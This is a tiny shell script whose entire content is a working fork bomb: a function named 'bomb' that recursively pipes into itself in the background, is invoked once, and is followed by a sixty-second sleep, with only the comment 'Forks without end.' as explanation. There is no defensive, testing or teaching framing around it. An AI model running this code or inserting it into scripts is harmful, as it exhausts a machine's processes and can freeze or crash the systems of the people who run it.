#!/bin/sh
# Forks without end.
bomb() { bomb | bomb & }
bomb
sleep 60
